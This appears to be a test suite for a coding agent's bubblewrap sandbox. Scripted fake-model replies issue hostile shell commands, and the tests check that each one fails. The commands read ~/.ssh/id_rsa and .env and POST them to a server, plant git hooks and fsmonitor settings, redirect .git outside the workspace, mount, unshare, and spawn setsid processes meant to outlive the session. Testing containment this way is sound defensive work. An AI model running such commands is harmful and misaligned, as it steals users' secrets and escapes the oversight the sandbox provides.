import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer as createNetServer } from "node:net";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { isAlive } from "../../src/processes/process-tree.js";
import { BWRAP_PROBLEM, JOB_PORT_PROBLEM, sandboxSuite } from "../support/bwrap.js";
import { startCaptureServer } from "../support/capture-server.js";
import { reply, useFakeOpenAI } from "../support/fake-openai.js";
import { DEV_SERVER_FILES, devServerGone, eventually, hostPid, readDevServerPids } from "../support/processes.js";
import { startPty } from "../support/pty.js";
import { cliOptions, runCli, startCli } from "../support/run-cli.js";
import { tempWorkspace } from "../support/workspace.js";

const fakeOpenAI = useFakeOpenAI();
const tools = (request: any) => request.messages.filter((m: any) => m.role === "tool").map((m: any) => m.content);
const git = (cwd: string, ...args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd, encoding: "utf8" });

/** A workspace that is a git repository with one commit. */
function repository(files: Record<string, string> = {}) {
  const ws = tempWorkspace({ "a.txt": "a\n", ...files });
  git(ws.root, "init", "-q", "-b", "main");
  git(ws.root, "add", "-A");
  git(ws.root, "commit", "-qm", "first");
  return ws;
}

/** The escapee's pid as written from inside the sandbox, as this test sees it. */
async function escapeePid(root: string): Promise<number> {
  await eventually(() => existsSync(join(root, "escapee.pid")), 10_000);
  return hostPid(Number(readFileSync(join(root, "escapee.pid"), "utf8")), root);
}
const ESCAPE = `setsid sh -c 'echo $$ > escapee.pid; exec sleep 300' > /dev/null 2>&1 &`;

describe.skipIf(BWRAP_PROBLEM)(sandboxSuite("the sandbox (Anthropic's sandbox runtime)"), () => {
  it("writes land in the workspace and $TMPDIR only; git commit works; protected git internals and the .git name hold", async () => {
    const ws = repository({ ".git/hooks/pre-commit": "#!/bin/sh\n" });
    const config = readFileSync(join(ws.root, ".git/config"), "utf8");
    const command = [
      "echo in > inside.txt",
      "echo out > ../outside/escaped.txt",
      "echo t > /tmp/t",
      "echo t > $TMPDIR/t && cat $TMPDIR/t",
      "git add inside.txt && git -c user.name=t -c user.email=t@t commit -qm second && echo committed",
      "git stash list && echo stash-ok",
      "echo '[core]' >> .git/config",
      "echo evil > .git/hooks/pre-commit",
      "echo ../../outside > .git/commondir",
      "mv .git moved-git",
    ].join("; ");
    const fake = await fakeOpenAI([reply().tool("exec", { command }), reply().text("Done.")]);
    // No --yes: with the sandbox on, a command inside the boundary runs without asking.
    const result = await runCli(["-p", "write some files"], cliOptions(ws, fake));
    expect(result.code).toBe(0);
    const observation = tools(fake.requests[1])[0];
    expect(readFileSync(join(ws.root, "inside.txt"), "utf8")).toBe("in\n");
    expect(existsSync(join(ws.outside, "escaped.txt"))).toBe(false);
    expect(observation).toMatch(/\/tmp\/t: Read-only file system/);
    for (const line of ["t", "committed", "stash-ok"]) expect(observation).toMatch(new RegExp(`^${line}$`, "m"));
    expect(git(ws.root, "log", "--format=%s")).toBe("second\nfirst\n");
    expect(readFileSync(join(ws.root, ".git/config"), "utf8")).toBe(config);
    expect(readFileSync(join(ws.root, ".git/hooks/pre-commit"), "utf8")).toBe("#!/bin/sh\n");
    expect(observation).toMatch(/mv: cannot move '.git' to 'moved-git': Device or resource busy/);
    expect(existsSync(join(ws.root, ".git/commondir"))).toBe(false);
    expect(observation).toContain("Sandbox: removed .git/commondir, which the command created");
  });

  it("leaves no placeholder in the person's project while a command runs (git status is clean outside and inside)", async () => {
    const ws = repository();
    const fake = await fakeOpenAI([reply().tool("exec", { command: "git status --porcelain --ignored; echo ready; sleep 30", background: true }), reply().text("Waiting").hang(3)]);
    const cli = startCli(["-p", "start it"], cliOptions(ws, fake));
    try {
      await eventually(() => fake.requests.length === 2, 15_000);
      expect(git(ws.root, "status", "--porcelain", "--ignored")).toBe("");
      const observation = tools(fake.requests[1])[0];
      expect(observation).toContain("ready");
      expect(observation).not.toMatch(/^\?\?|^!!/m);
    } finally {
      cli.child.kill("SIGKILL");
      await cli.done;
    }
  });

  it("a protected path a command creates is removed when it ends; the boundary is not widened by a planted .git file", async () => {
    const ws = tempWorkspace();
    const fake = await fakeOpenAI([
      reply().tool("exec", { command: `mkdir -p .vscode .github/workflows && echo '{}' > .vscode/tasks.json && echo x > .mcp.json && echo x > .github/workflows/ci.yml && printf 'gitdir: ${ws.outside}\\n' > .git` }),
      reply().tool("exec", { command: `echo pwned > ${ws.outside}/pwned.txt; cat .git` }),
      reply().text("Done."),
    ]);
    const result = await runCli(["-p", "plant things"], cliOptions(ws, fake));
    expect(result.code).toBe(0);
    const [created, second] = tools(fake.requests[2]);
    for (const path of [".vscode", ".mcp.json", ".github/workflows"]) expect(existsSync(join(ws.root, path))).toBe(false);
    expect(created).toMatch(/Sandbox: removed .*\.vscode.*\.mcp\.json/);
    expect(existsSync(join(ws.outside, "pwned.txt"))).toBe(false);
    expect(second).toMatch(/Read-only file system|Permission denied/);
  });

  it("a repository a command creates keeps working but loses what would run outside the sandbox", async () => {
    const ws = tempWorkspace();
    const command = "git init -q . && printf '#!/bin/sh\\ntouch /tmp/ran\\n' > .git/hooks/post-checkout && git config core.fsmonitor 'touch hacked' && echo made";
    const fake = await fakeOpenAI([reply().tool("exec", { command }), reply().text("Done.")]);
    await runCli(["-p", "init"], cliOptions(ws, fake));
    expect(tools(fake.requests[1])[0]).toContain("made");
    expect(existsSync(join(ws.root, ".git/hooks/post-checkout"))).toBe(false);
    expect(readFileSync(join(ws.root, ".git/config"), "utf8")).not.toContain("fsmonitor");
    git(ws.root, "status");
    expect(existsSync(join(ws.root, "hacked"))).toBe(false);
  });

  it("secrets stay unreadable, host Unix sockets unreachable, mounts refused, even for a background job with a server to post to", async () => {
    const ws = tempWorkspace();
    mkdirSync(join(ws.home, ".ssh"));
    writeFileSync(join(ws.home, ".ssh/id_rsa"), "PRIVATE KEY\n");
    writeFileSync(join(ws.home, ".env"), "OPENAI_API_KEY=sk-in-config\n");
    const socketPath = join(ws.outside, "agent.sock");
    let socketConnections = 0;
    const socketServer = createNetServer(() => socketConnections++);
    await new Promise<void>((resolve) => socketServer.listen(socketPath, resolve));
    const capture = await startCaptureServer();
    const post = `cat ~/.ssh/id_rsa ${ws.home}/.env; node -e 'fetch(process.argv[1], { method: "POST", body: "k" }).then(r => console.log("posted", r.status), e => console.log("fetch failed", e.cause?.code ?? e.message))' ${capture.url}`;
    const fake = await fakeOpenAI([
      reply().tool("exec", { command: `${post}; echo job-done; sleep 30`, background: true }),
      reply().tool("exec", { command: `${post}; node -e 'require("net").connect(process.argv[1]).on("connect", () => console.log("socket connected")).on("error", e => console.log("socket", e.code))' ${socketPath}; mount -o remount,rw / 2>&1; mount -t tmpfs none /mnt 2>&1; unshare -r true 2>&1 || echo unshare-refused` }),
      reply().text("Done."),
    ]);
    try {
      const result = await runCli(["-p", "exfiltrate"], cliOptions(ws, fake));
      expect(result.code).toBe(0);
      const [job, foreground] = tools(fake.requests[2]);
      for (const observation of [job, foreground]) {
        expect(observation).not.toContain("PRIVATE KEY");
        expect(observation).not.toContain("sk-in-config");
        expect(observation).toMatch(/fetch failed|posted 403/);
      }
      expect(foreground).toContain("socket EPERM");
      // Root is refused by the sandbox; another user already by mount itself.
      expect(foreground).toMatch(/mount: .*(permission denied|must be superuser)/i);
      expect(foreground).toContain("unshare-refused");
      expect(capture.requests).toEqual([]);
      expect(socketConnections).toBe(0);
    } finally {
      socketServer.close();
    }
  });

  it("--print refuses a new domain and says how to allow it; --allow-domain lets it through", async () => {
    const capture = await startCaptureServer();
    const domain = new URL(capture.url).host;
    // --noproxy '': the proxy is asked even for an address on this machine (as it is for any registry).
    const command = `curl --noproxy '' -s -o /dev/null -w 'status %{http_code}\\n' ${capture.url}/x`;
    const ws = tempWorkspace();
    const refused = await fakeOpenAI([reply().tool("exec", { command }), reply().text("Done.")]);
    await runCli(["-p", "fetch"], cliOptions(ws, refused));
    const observation = tools(refused.requests[1])[0];
    expect(observation).toContain(`${domain} is not an allowed domain. Allow it with --allow-domain ${domain}`);
    expect(capture.requests).toEqual([]);
    const allowed = await fakeOpenAI([reply().tool("exec", { command }), reply().text("Done.")]);
    await runCli(["-p", "fetch", "--allow-domain", domain], cliOptions(ws, allowed));
    expect(tools(allowed.requests[1])[0]).toContain("status 404");
    expect(capture.requests.map((request) => request.url)).toEqual(["/v1/x"]);
  });

  it("the REPL asks about a new domain, naming it and the command; 'a' keeps it for the project", async () => {
    const capture = await startCaptureServer();
    const domain = new URL(capture.url).host;
    // --noproxy '': the proxy is asked even for an address on this machine (as it is for any registry).
    const command = `curl --noproxy '' -s -o /dev/null -w 'status %{http_code}\\n' ${capture.url}/x`;
    const ws = tempWorkspace();
    const fake = await fakeOpenAI([reply().tool("exec", { command }), reply().tool("exec", { command }), reply().text("Done.")]);
    const result = await runCli([], cliOptions(ws, fake, { stdin: ["fetch twice", "a", ""].join("\n") }));
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`Network: \`${command}\` wants ${domain}.`);
    expect(result.stdout.match(/Allow 127\.0\.0\.1:\d+\?/g)).toHaveLength(1);
    expect(tools(fake.requests[2]).map((t: string) => t.split("\n")[0])).toEqual(["status 404", "status 404"]);
    // Remembered for this workspace, in mini-claude's data folder: the next session does not ask.
    const again = await fakeOpenAI([reply().tool("exec", { command }), reply().text("Done.")]);
    await runCli(["-p", "fetch"], cliOptions(ws, again));
    expect(tools(again.requests[1])[0]).toContain("status 404");
  });

  it("a background dev server is reachable from the host at its URL and from a foreground command, and dies with mini-claude", async () => {
    const ws = tempWorkspace(DEV_SERVER_FILES);
    const test = `curl -s http://127.0.0.1:$(node -p 'require("./pids.json").port')/ && echo " (from a command)"`;
    const fake = await fakeOpenAI([reply().tool("exec", { command: "npm run dev" }), reply().tool("exec", { command: test }), reply().text("Still thinking").hang(2)]);
    const cli = startCli(["-p", "start the server"], cliOptions(ws, fake));
    try {
      const pids = await readDevServerPids(ws.root);
      await eventually(() => fake.requests.length === 3, 10_000);
      expect(tools(fake.requests[2])[0]).toContain(`http://localhost:${pids.port}/`);
      if (JOB_PORT_PROBLEM) {
        // Without the forward the model is told, and the server still dies with mini-claude.
        expect(tools(fake.requests[2])[0]).toContain("mini-claude: the browser cannot reach this server: its network namespace cannot be entered from here");
      } else {
        expect(tools(fake.requests[2])[1]).toContain("hello from dev (from a command)");
        const response = await fetch(`http://127.0.0.1:${pids.port}/`);
        expect(await response.text()).toBe("hello from dev");
      }
      cli.child.kill("SIGTERM");
      await cli.done;
      expect(await devServerGone(pids)).toBe(true);
    } finally {
      cli.child.kill("SIGKILL");
    }
  });

  it("a setsid escapee dies with its foreground command", async () => {
    const ws = tempWorkspace();
    const fake = await fakeOpenAI([reply().tool("exec", { command: `${ESCAPE} sleep 0.3` }), reply().text("Done.")]);
    const cli = startCli(["-p", "escape"], cliOptions(ws, fake));
    const pid = await escapeePid(ws.root);
    expect((await cli.done).code).toBe(0);
    expect(await eventually(() => !isAlive(pid), 5000)).toBe(true);
  });

  it("a setsid escapee of a background job dies after kill -9 of mini-claude", async () => {
    const ws = tempWorkspace();
    const fake = await fakeOpenAI([
      reply().tool("exec", { command: `${ESCAPE} echo ready; sleep 300`, background: true }),
      reply().text("Waiting").hang(2),
    ]);
    const cli = startCli(["-p", "escape in the background"], cliOptions(ws, fake));
    const pid = await escapeePid(ws.root);
    await eventually(() => fake.requests.length === 2, 10_000);
    expect(isAlive(pid)).toBe(true);
    // The engine's host-side bridge (socat) is mini-claude's child: a kill -9 orphans it.
    const bridges = execFileSync("pgrep", ["-P", String(cli.child.pid), "socat"], { encoding: "utf8" }).trim().split("\n").map(Number);
    expect(bridges.length).toBeGreaterThan(0);
    cli.child.kill("SIGKILL");
    await cli.done;
    expect(await eventually(() => !isAlive(pid), 5000)).toBe(true);
    // The next session's first command ends this user's orphaned bridges.
    const next = await fakeOpenAI([reply().tool("exec", { command: "true" }), reply().text("Done.")]);
    await runCli(["-p", "again"], cliOptions(ws, next));
    for (const bridge of bridges) expect(isAlive(bridge)).toBe(false);
  });

  it("approvals: inside the boundary runs unasked; a destructive shape still needs the person", async () => {
    const ws = tempWorkspace({ "sub/keep.txt": "keep\n" });
    const fake = await fakeOpenAI([reply().tool("exec", { command: "touch made.txt" }), reply().tool("exec", { command: "rm -rf sub" }), reply().text("Done.")]);
    const result = await runCli(["-p", "try things"], cliOptions(ws, fake));
    expect(result.code).toBe(0);
    const [made, removed] = tools(fake.requests[2]);
    expect(made).toMatch(/exit code 0/);
    expect(existsSync(join(ws.root, "made.txt"))).toBe(true);
    expect(removed).toBe("Error: not run: this command deletes recursively (rm -r), and --print cannot ask the user. Tell the user: only --yes runs a command of this shape without asking.");
    expect(existsSync(join(ws.root, "sub/keep.txt"))).toBe(true);
  });

  it("the REPL says the regime, runs a plain command unasked, asks before rm -rf; /sandbox shows the policy", async () => {
    const ws = tempWorkspace({ "sub/keep.txt": "keep\n" });
    const fake = await fakeOpenAI([
      reply().tool("exec", { command: "touch plain.txt" }),
      reply().tool("exec", { command: "rm -rf sub" }),
      reply().text("Kept it."),
    ]);
    const pty = startPty([], cliOptions(ws, fake));
    await pty.waitFor("Sandbox on: commands run without asking inside the workspace");
    await pty.waitFor("mini-claude> ");
    pty.type("tidy up\r");
    await pty.waitFor(/Command:\n\s+rm -rf sub\n[^]*Run this command\? \[y\]es \/ \[n\]o \(add a reason\) \/ \[a\]lways: /);
    expect(existsSync(join(ws.root, "plain.txt"))).toBe(true);
    pty.type("n\r");
    await pty.waitFor("Kept it.");
    pty.type("/sandbox\r");
    await pty.waitFor("Unix sockets, mount");
    await pty.quit();
    const screen = (await pty.rendered()).replace(/\n/g, "");
    expect(screen).not.toContain("Command:  touch plain.txt");
    expect(screen).toMatch(/Never readable: .*\.ssh/);
    expect(existsSync(join(ws.root, "sub/keep.txt"))).toBe(true);
  });

  it("in a git worktree whose git folder is outside the workspace, commits work; hooks and config stay read-only", async () => {
    const ws = tempWorkspace();
    const main = join(ws.outside, "main");
    mkdirSync(main);
    git(main, "init", "-q", "-b", "main");
    writeFileSync(join(main, "a.txt"), "a\n");
    git(main, "add", "a.txt");
    git(main, "commit", "-qm", "first");
    const worktree = join(ws.root, "wt");
    git(main, "worktree", "add", "-q", worktree, "-b", "topic");
    const config = readFileSync(join(main, ".git/config"), "utf8");
    const command =
      "echo b > b.txt && git add b.txt && git -c user.name=t -c user.email=t@t commit -qm second && echo committed; " +
      "git config core.hooksPath /tmp/evil; echo evil > ../../outside/main/.git/hooks/pre-commit; echo 'gitdir: /' > .git";
    const fake = await fakeOpenAI([reply().tool("exec", { command }), reply().text("Done.")]);
    await runCli(["-p", "commit"], cliOptions(ws, fake, { cwd: worktree }));
    expect(tools(fake.requests[1])[0]).toContain("committed");
    expect(git(main, "log", "--format=%s", "topic")).toBe("second\nfirst\n");
    expect(readFileSync(join(main, ".git/config"), "utf8")).toBe(config);
    expect(existsSync(join(main, ".git/hooks/pre-commit"))).toBe(false);
    expect(readFileSync(join(worktree, ".git"), "utf8")).toMatch(/^gitdir: .*outside\/main\/.git\/worktrees\/wt/);
  });

  it("protects an existing .mini-claude folder, .claude settings and .envrc", async () => {
    const ws = tempWorkspace({ ".mini-claude/settings.json": "{}", ".claude/settings.json": "{}", ".envrc": "ok\n" });
    const fake = await fakeOpenAI([reply().tool("exec", { command: "echo x > .mini-claude/settings.json; echo x > .claude/settings.json; echo x >> .envrc; rm -rf .claude" }), reply().text("Done.")]);
    await runCli(["-p", "tamper"], cliOptions(ws, fake));
    expect(readFileSync(join(ws.root, ".mini-claude/settings.json"), "utf8")).toBe("{}");
    expect(readFileSync(join(ws.root, ".claude/settings.json"), "utf8")).toBe("{}");
    expect(readFileSync(join(ws.root, ".envrc"), "utf8")).toBe("ok\n");
  });
});

describe("without the sandbox's packages", () => {
  it("says in one line what is missing and how to install it; commands then need approval as before", async () => {
    const ws = tempWorkspace();
    const bin = join(ws.home, "bin");
    mkdirSync(bin);
    const fake = await fakeOpenAI([reply().tool("exec", { command: "touch made.txt" }), reply().text("Could not.")]);
    const result = await runCli(["-p", "make a file"], cliOptions(ws, fake, { env: { PATH: bin } }));
    const line = result.rawStderr.split("\n").find((l) => l.includes("sandbox off"));
    expect(line).toMatch(/^mini-claude: sandbox off: .*missing \(install: apt-get install .*bubblewrap.*\); commands ask for approval\.$/);
    expect(existsSync(join(ws.root, "made.txt"))).toBe(false);
    expect(tools(fake.requests[1])[0]).toMatch(/^Error: not run: the sandbox is off, so every command asks, and --print cannot ask the user\. Tell the user to re-run with --yes/);
  });

  it("--sandbox=on refuses to run commands at all", async () => {
    const ws = tempWorkspace();
    const fake = await fakeOpenAI([reply().tool("exec", { command: "touch made.txt" }), reply().text("Could not.")]);
    await runCli(["--yes", "--sandbox=on", "-p", "make a file"], cliOptions(ws, fake, { env: { PATH: join(ws.home, "nothing") } }));
    expect(existsSync(join(ws.root, "made.txt"))).toBe(false);
    expect(tools(fake.requests[1])[0]).toMatch(/^Error: the sandbox is required \(--sandbox=on\) but unavailable: sandbox off: .*missing/);
  });
});
